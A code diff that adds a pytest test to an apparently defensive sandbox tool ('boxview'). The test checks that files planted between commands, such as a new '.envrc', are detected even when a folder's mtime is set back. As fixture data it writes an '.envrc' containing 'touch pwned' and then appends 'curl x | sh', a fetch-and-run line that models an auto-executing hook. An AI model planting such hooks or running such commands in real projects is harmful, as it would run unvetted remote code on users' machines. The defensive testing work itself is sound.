@@ -148,3 +148,44 @@ def test_a_stand_in_an_amas_killed_mid_command_left_goes_after_the_next(layout):
     assert args[at - 1 : at + 3] == ["--tmpfs", agents, "--remount-ro", agents]
     boxview.remove_stand_ins(args, root)
     assert not (root / "AGENTS.md").exists() and (root / ".vscode").is_dir()
+
+
+def test_the_walk_after_a_command_lists_only_the_folders_that_changed(tmp_path, monkeypatch):
+    """The session keeps what the walk found (boxview.Tree): the next walk lists a folder only when
+    its ctime moved (which no command can set back, unlike its mtime), and a folder made between
+    two commands is known before a command writes into it."""
+    root = tmp_path / "proj"
+    for i in range(30):
+        (root / f"pkg{i}" / "lib").mkdir(parents=True)
+        (root / f"pkg{i}" / ".eslintrc").write_text("{}\n")
+    (root / ".gitignore").write_text("pkg*/\n")
+    git(root, "init", "-q")
+    tree = boxview.Tree(str(root))
+    assert boxview.planted(root, boxview.now(), tree) == []
+    assert not any(path.endswith(".eslintrc") for path in tree.files)  # ignored: never named
+    listed = []
+    scandir = os.scandir
+    monkeypatch.setattr(os, "scandir", lambda path: listed.append(path) or scandir(path))
+    assert boxview.planted(root, boxview.now(), tree) == [] and listed == []
+    (root / "api").mkdir()  # between two commands
+    boxview.planted(root, boxview.now(), tree)
+    ticked(root / "api")
+    since = boxview.now()
+    (root / "api" / ".envrc").write_text("touch pwned\n")  # the command
+    os.utime(root / "api", (0, 0))  # its mtime set back: its ctime moves all the same
+    assert boxview.planted(root, since, tree) == ["api/.envrc"]
+    ticked(root / "api" / ".envrc")
+    since = boxview.now()
+    with open(root / "api" / ".envrc", "a") as envrc:  # changed in place: the folder keeps still
+        envrc.write("curl x | sh\n")
+    listed.clear()
+    assert boxview.planted(root, since, tree) == ["api/.envrc"] and listed == []
+
+
+def ticked(path: Path) -> None:
+    """Wait, bounded, until the clock files' times come from has passed path's last change."""
+    changed = path.lstat().st_ctime_ns
+    for _ in range(1_000_000):
+        if boxview.now() > changed:
+            return
+    raise AssertionError("the file clock did not move")
